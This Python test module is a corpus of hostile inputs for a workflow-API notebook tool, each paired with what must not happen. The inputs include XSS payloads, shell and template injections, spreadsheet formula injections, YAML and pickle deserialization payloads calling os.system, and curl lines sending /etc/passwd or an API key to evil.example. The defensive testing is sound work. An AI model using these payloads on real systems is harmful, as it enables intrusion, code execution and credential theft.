"""Corpus of hostile values, each with what must not happen.

Rule of this file: values only. Who reads an entry drives a real surface with it, and `FORBIDDEN` says what to look for.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any, Final

import pandas as pd

from tests.notebook.hostile import EVIL, INVISIBLE, MARKDOWN

FORBIDDEN: Final = (
    "script run", "remote request", "key shown", "file written elsewhere", "formula executed", "YAML object built",
    "pickle loaded", "memory over a bound", "program started", "hang",
)  # fmt: skip

KEY: Final = "fhk_thiskeymustbenowhere0987654321"
"""Distinctive: to be found again in whatever is left behind."""
TOUCHED: Final = "fh-notebook-was-here"
"""The file that every command of the corpus would make."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Entry:
    """One hostile thing."""

    name: str
    value: Any
    never: tuple[str, ...]
    """What must not happen: words of `FORBIDDEN`."""

    def __str__(self) -> str:
        return self.name


def _entries(never: tuple[str, ...], values: dict[str, Any]) -> tuple[Entry, ...]:
    return tuple(Entry(name=name, value=value, never=never) for name, value in values.items())


ELSEWHERE: Final = "https://evil.example"
RUNS: Final = "window.evil=(window.evil||0)+1"
"""The page of the browser's test looks at it."""
_PAGE: Final = ("script run", "remote request")

_HTML: Final[dict[str, Any]] = {
    "script": f"<script>{RUNS}</script>",
    "script in a tag that was open": f'"></td></table><script>{RUNS}</script>',
    "end of style": f"</style><script>{RUNS}</script><style>",
    "end of script": f"</script><script>{RUNS}</script>",
    "end of a comment": f"--><script>{RUNS}</script><!--",
    "end of CDATA": f"]]><script>{RUNS}</script>",
    "end of title and textarea": f"</title></textarea><script>{RUNS}</script>",
    "svg onload": f"<svg/onload={RUNS}><animate onbegin={RUNS} attributeName=x dur=1s>",
    "img onerror": f"<img src=x onerror={RUNS}>",
    "img": f"<img src={ELSEWHERE}/i.png srcset='{ELSEWHERE}/j.png 2x'><image href={ELSEWHERE}/k.png>",
    "picture and video": f"<video src={ELSEWHERE}/v poster={ELSEWHERE}/p autoplay onerror={RUNS}></video><audio src={ELSEWHERE}/a>",
    "iframe": f"<iframe src={ELSEWHERE}></iframe><iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "object and embed": f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "base": f"<base href={ELSEWHERE}/>",
    "stylesheet": f"<link rel=stylesheet href={ELSEWHERE}/s.css><style>@import '{ELSEWHERE}/t.css';*{{background:url({ELSEWHERE}/b)}}</style>",
    "prefetch": f"<link rel=prefetch href={ELSEWHERE}/f><link rel=dns-prefetch href=//evil.example>",
    "style attribute": f"<b style='background:url({ELSEWHERE}/b)'>b</b>",
    "autofocus": f"<input autofocus onfocus={RUNS}><details open ontoggle={RUNS}><summary>x</summary></details>",
    "form": f"<form action={ELSEWHERE}><button id=fh>go</button></form><button formaction=javascript:{RUNS}>x</button>",
    "events with strange names": f"<x onpointerrawupdate={RUNS} onanimationend={RUNS} style=animation-name:x contenteditable onbeforeinput={RUNS}>x</x>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUNS}&gt;'>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    "entities": f"&lt;script&gt;{RUNS}&lt;/script&gt; &#60;script&#62;{RUNS}&#60;/script&#62;",
    "full width": f"＜script＞{RUNS}＜/script＞",
    "null in a tag": f"<scr\x00ipt>{RUNS}</scr\x00ipt>",
    "require": f"<script>require(['{ELSEWHERE}/r.js'])</script><jupyter-widgets data='{ELSEWHERE}'></jupyter-widgets>",
    "mathjax": f"$\\href{{javascript:{RUNS}}}{{x}}$ \\(\\unicode{{x}}\\) $$\\require{{html}}\\style{{background:url({ELSEWHERE})}}{{x}}$$",
    "markdown": MARKDOWN,
    "markdown links": f"[a](javascript:{RUNS}) <javascript:{RUNS}> [b]: javascript:{RUNS}\n\n[b] ![i]({ELSEWHERE}/m.png) ![j][b]\n\n[c](data:text/html;base64,PHNjcmlwdD4=)",
    "markdown with HTML": f"> <img src={ELSEWHERE}/q.png>\n\n```html\n</code></pre><script>{RUNS}</script>\n```\n| <script>{RUNS}</script> |\n|-|\n",
    "invisible": INVISIBLE,
    "terminal": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m",
    "all of the notebook's": EVIL,
}  # fmt: skip

OUTPUTS: Final = (
    *_entries(_PAGE, _HTML),
    *_entries(_PAGE, {
        "as a mapping": {EVIL: EVIL, "</script>": [f"<img src=x onerror={RUNS}>", {"__proto__": {"evil": 1}}]},
        "as a table": [{f"<b onclick={RUNS}>": f"<svg onload={RUNS}>", "n": n} for n in range(3)],
        "as assets": {"settings": {EVIL: EVIL}, "assets": [
            {"id": EVIL, "file_url": url, "file_name": f"../{EVIL}", "file_type": "text/html", "file_size": -1}
            for url in (f"javascript:{RUNS}", "data:text/html,<script>1</script>", f"{ELSEWHERE}/a.png", "file:///etc/passwd", "//evil.example/x")
        ]},
    }),
    *_entries((*_PAGE, "memory over a bound"), {
        "large": f"<img src={ELSEWHERE}/l.png>" * 60_000,
        "deep": json.loads("[" * 400 + f'"<script>{RUNS}</script>"' + "]" * 400),
        "wide": {f"<i onclick={RUNS}>{n}": n for n in range(5_000)},
        "many lines": "<br>\n" * 200_000,
    }),
)  # fmt: skip

NAMES: Final = _entries((*_PAGE, "file written elsewhere", "program started"), {
    "script": f"<script>{RUNS}</script>",
    "attribute": f'" onmouseover="{RUNS}" style="background:url({ELSEWHERE}/n)',
    "path": f"../../../../tmp/{TOUCHED}",
    "absolute": f"/tmp/{TOUCHED}",
    "shell": f"$(touch /tmp/{TOUCHED}); `touch /tmp/{TOUCHED}` | sh",
    "template": "{{ __import__('os').system('touch /tmp/" + TOUCHED + "') }}",
    "format": "{0.__class__.__init__.__globals__} %s %(x)s {}",
    "formula": f"=cmd|' /C touch {TOUCHED}'!A0",
    "invisible": "a\u202e\u200b\x07 name",
    "prototype": "__proto__",
    "SQL": "x'); DROP TABLE answers; --",
    "math": f"$\\href{{javascript:{RUNS}}}{{x}}$",
    "long": "n" * 400,
})  # fmt: skip

FORMULAS: Final = (
    f"=cmd|' /C touch {TOUCHED}'!A0", f'=HYPERLINK("{ELSEWHERE}?a="&A1,"x")', f'=WEBSERVICE("{ELSEWHERE}")', "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\x00=1+1", '"=1+1', "＝1+1",
    f'=IMPORTXML("{ELSEWHERE}","//a")', "{=1+1}", "=DDE(1)", "x\n=1+1", "x;=1+1", "x\t=1+1",
)  # fmt: skip
"""What a spreadsheet would work out, or ask for elsewhere."""


def frame() -> pd.DataFrame:
    """Return rows of which every name and value is hostile."""
    texts = [*FORMULAS, *(entry.value[:2_000] for entry in OUTPUTS if isinstance(entry.value, str))]
    texts = [text.encode(errors="replace").decode() for text in texts]  # half a character is no text for a column
    return pd.DataFrame({
        "text": texts,
        "=1+1": [f"={n}" for n in range(len(texts))],
        f"<script>{RUNS}</script>": ["<b>x</b>"] * len(texts),
        "metadata.<img src=x>": [EVIL[:50]] * len(texts),
        "expected_output": texts[::-1],
    })  # fmt: skip


def _catalogue(inputs: str, description: str = "x") -> str:
    return f"version: 1\ndeployments:\n  d:\n    description: {description}\n    variants: [a]\n    inputs:\n      t: {inputs}\n"


CATALOGUES: Final = (
    *_entries(("YAML object built", "program started", "file written elsewhere"), {
        f"tag {tag.split(':')[-1].split(' ')[0]}": _catalogue(tag) for tag in (
            f"!!python/object/apply:os.system ['touch /tmp/{TOUCHED}']",
            f"!!python/object/new:subprocess.Popen [[touch, /tmp/{TOUCHED}]]",
            "!!python/name:os.system", "!!python/module:antigravity", "!!python/object:fh_notebook.core.redaction.Secret {}", "!!python/tuple [1]",
            f"!!python/object/apply:builtins.eval [\"open('/tmp/{TOUCHED}','w')\"]", "!<tag:yaml.org,2002:python/name:os.system> x", "!!binary aGk=",
            "!!set {a}", "!!timestamp 2026-11-25", "!include /etc/passwd",
        )
    }),
    *_entries(("memory over a bound", "hang"), {
        "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
            f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(f'*{chr(97 + n)}' for _ in range(9))}]\n" for n in range(12)) + "deployments: *m\n",
        "laughs by merging": "version: 1\n" + "x0: &x0 {a: 1}\n" + "".join(
            f"x{n}: &x{n} {{<<: [{','.join(f'*x{n - 1}' for _ in range(20))}], b{n}: 1}}\n" for n in range(1, 25)) + "deployments: *x24\n",
        "refers to itself": "version: 1\ndeployments: &d {d: *d}\n",
        "deep": "version: 1\ndeployments: " + "{a: " * 5_000 + "x" + "}" * 5_000,
        "deep brackets": "[" * 20_000,
        "many documents": "---\nversion: 1\n" * 20_000,
        "long number": _catalogue("{type: integer, default: " + "9" * 20_000 + "}"),
        "many names": "version: 1\ndeployments: {" + ",".join(f"d{n}: {{}}" for n in range(800)) + "}",
        "runaway pattern": _catalogue("{type: string, pattern: '(a|aa)+$', default: '" + "a" * 80 + "!'}"),
        "$ref elsewhere": _catalogue(f"{{$ref: '{ELSEWHERE}/schema.json'}}"),
        "$ref to a file": _catalogue("{$ref: 'file:///etc/passwd'}"),
        "$ref to itself": _catalogue("{$ref: '#/properties/t'}"),
        "no UTF-8 escape": "version: 1\ndeployments: {\"\\ud800\": {}}\n",
    }),
    *_entries(("key shown",), {
        "a key": f"version: 1\napi_key: {KEY}\ndeployments: {{}}\n",
        "a key in a deployment": f"version: 1\ndeployments:\n  d:\n    api_key: {KEY}\n",
        "a key in a broken line": f"version: 1\n  Authorization: Bearer {KEY}\n deployments",
    }),
    *_entries(_PAGE, {"a description": _catalogue("{type: string, title: '<script>x</script>', description: '<img src=x onerror=y>'}", "'</script><script>1</script>'")}),
)  # fmt: skip

_CALL: Final = "curl https://api.fetchhive.com/v1/workflow/invoke "
_BODY: Final = '{"deployment": "d", "variant": "v", "inputs": {"t": "x"}}'

SNIPPETS: Final = (
    *_entries(("program started", "file written elsewhere"), {
        "substitution": f'{_CALL}-d "$(touch /tmp/{TOUCHED})"',
        "backticks": f'{_CALL}-d "`touch /tmp/{TOUCHED}`"',
        "second command": f"{_CALL}-d '{_BODY}'; touch /tmp/{TOUCHED}",
        "pipe": f"{_CALL}-d '{_BODY}' | sh",
        "background": f"touch /tmp/{TOUCHED} & {_CALL}-d '{_BODY}'",
        "output file": f"{_CALL}-o /tmp/{TOUCHED} -d '{_BODY}'",
        "redirection": f"{_CALL}-d '{_BODY}' > /tmp/{TOUCHED}",
        "here document": f"{_CALL}-d @- <<EOF\n{_BODY}\nEOF\ntouch /tmp/{TOUCHED}",
        "cookie jar, trace": f"{_CALL}-c /tmp/{TOUCHED} --trace /tmp/{TOUCHED} -D /tmp/{TOUCHED} -d '{_BODY}'",
        "expression": _CALL + "-d '" + _BODY.replace('"x"', '"{{ __import__(\\"os\\").system(\\"touch /tmp/' + TOUCHED + '\\") }}"') + "'",
    }),
    *_entries(("remote request", "file written elsewhere"), {
        "file as body": f"{_CALL}-d @/etc/passwd",
        "file as form": f"{_CALL}-F f=@/etc/passwd",
        "config": f"{_CALL}-K /etc/passwd -d '{_BODY}'",
        "another host": f"curl https://evil.example/v1/workflow/invoke -H 'Authorization: Bearer {KEY}' -d '{_BODY}'",
        "proxy": f"{_CALL}-x http://evil.example:8080 -k --location-trusted -d '{_BODY}'",
        "login in the address": f"curl https://user:{KEY}@api.fetchhive.com/v1/workflow/invoke -d '{_BODY}'",
        "file address": f"curl file:///v1/workflow/invoke -d '{_BODY}'",
    }),
    *_entries(("key shown",), {
        "key, broken body": f"{_CALL}-H 'Authorization: Bearer {KEY}' -d '{{'",
        "key in the query": f"curl 'https://api.fetchhive.com/v1/workflow/invoke?api_key={KEY}' -d '{_BODY}'",
        "key in the address": f"curl {KEY}https://api.fetchhive.com/v1/workflow/invoke -d '{_BODY}'",
        "key in a strange header": f"{_CALL}-H 'X-Api-Key: {KEY}' -u x:{KEY} -b 'k={KEY}' -A {KEY} -d '{_BODY}'",
        "key in an unknown option": f"{_CALL}--{KEY} -d '{_BODY}'",
    }),
    *_entries(("memory over a bound", "hang"), {
        "quotes": _CALL + "-d " + "'" * 50_001,
        "backslashes": _CALL + "-d \"" + "\\" * 50_001,
        "ansi": _CALL + "-d $'" + "\\x4" * 20_000,
        "blanks": _CALL + " \t" * 50_000,
        "continuations": _CALL + "\\\n" * 50_000,
        "carets": "curl ^\n" * 2_000,
        "deep body": _CALL + "-d '" + "[" * 100_000 + "'",
        "many options": _CALL + "-H 'a: b' " * 1_500 + f"-d '{_BODY}'",
        "fences": "```\n" * 20_000 + _CALL,
        "open substitutions": _CALL + '-d "' + "$(" * 8_000,
        "open braces": _CALL + '-d "' + "${" * 8_000,
    }),
)  # fmt: skip

CALLBACKS: Final = (
    *_entries(("script run", "remote request"), {"a page": {"event_type": "workflow.completed", "data": {"output": EVIL, "error": EVIL}, "status": EVIL}}),
    *_entries(("memory over a bound", "hang"), {
        "deep": b"[" * 100_000, "deep objects": b'{"a":' * 50_000, "long number": b'{"data": ' + b"9" * 100_000 + b"}", "no JSON": b"\xff\xfe{",
        "many names": {"data": {str(n): n for n in range(20_000)}}, "twice": b'{"request_id": "a", "request_id": ["b"]}', "large": {"data": {"output": "x" * 2_000_000}},
        "infinite": b'{"data": {"output": 1e999}, "elapsed": NaN}', "surrogates": b'{"data": {"output": "\\ud800"}}',
    }),
    *_entries(("pickle loaded", "program started"), {
        "pickle": b"cos\nsystem\n(S'touch /tmp/" + TOUCHED.encode() + b"'\ntR.", "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 100, "YAML": b"!!python/object/apply:os.system ['x']",
    }),
    *_entries(("key shown", "file written elsewhere"), {
        "wrong kinds": {"event_type": ["x"], "request_id": {"a": 1}, "data": [1], "run_status": 3, "error": {"a": [KEY]}, "webhook_secret": KEY},
        "a path for an id": {"event_type": "workflow.completed", "request_id": f"../../tmp/{TOUCHED}", "data": {"output": "x"}},
    }),
)  # fmt: skip
